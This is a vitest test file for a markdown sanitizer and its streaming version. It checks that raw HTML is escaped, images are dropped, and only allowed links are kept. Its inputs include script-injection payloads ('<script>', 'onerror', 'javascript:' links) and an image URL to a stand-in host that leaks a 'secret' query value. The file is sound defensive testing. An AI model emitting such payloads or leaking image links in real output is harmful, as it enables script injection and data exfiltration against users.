import { describe, expect, it } from 'vitest';
import { MarkdownStreamSanitizer } from './markdown-stream-sanitizer';
import { sanitizeMarkdown } from './sanitize-markdown';

const only = (...urls: string[]) => ({ allowLink: (url: string) => urls.includes(url) });

describe('sanitizeMarkdown', () => {
  it('escapes raw HTML, drops images, and keeps only allowed http(s) links', () => {
    const text =
      'Cgroups limit CPU [1]. <script>alert(1)</script><img src=x onerror=alert(1)> ' +
      '![x](https://evil.example/t.png?leak=secret) ![y][r]\n[r]: https://evil.example/r.png\n' +
      '[click](javascript:alert(1)) [docs](https://docs.docker.com/) [other](https://evil.example/) <https://evil.example/a>';
    const safe = sanitizeMarkdown(text, only('https://docs.docker.com/'));
    expect(safe).not.toMatch(/(?<!\\)<(script|img)|evil\.example\/t\.png|\]\(javascript:|\(https:\/\/evil/);
    expect(safe).toContain('\\<script>');
    expect(safe).toContain('[docs](https://docs.docker.com/)');
    expect(safe).toContain('Cgroups limit CPU [1].');
    expect(safe).toContain('\\[r]: https://evil.example/r.png');
    expect(safe).toMatch(/ other /);
  });

  it('keeps a dropped link as its text alone, when its URL holds parentheses', () => {
    expect(sanitizeMarkdown('see [docs](javascript:alert(1)) or real', only())).toBe('see docs or real');
    expect(sanitizeMarkdown('![logo](https://evil.example/a(1).png) here', only())).toBe('logo here');
  });

  it('leaves ordinary text, citation marks and comparisons alone', () => {
    const text = 'a < b and [1][2] say so; 3 > 2!';
    expect(sanitizeMarkdown(text, only())).toBe(text);
  });
});

describe('MarkdownStreamSanitizer', () => {
  it('judges a link or tag split over pieces whole, and never changes what it let out', () => {
    const pieces = [
      'See [cl',
      'ick](javas',
      'cript:alert(1)) and <scr',
      'ipt> and ![a](https://evil.',
      'example/x.png) [1].',
    ];
    const s = new MarkdownStreamSanitizer(only());
    const out = pieces.map((piece) => s.push(piece)).join('') + s.flush();
    expect(out).toBe(sanitizeMarkdown(pieces.join(''), only()));
    expect(out).not.toMatch(/javascript:|(?<!\\)<script|evil/);
    expect(out).toContain('[1].');
  });
});
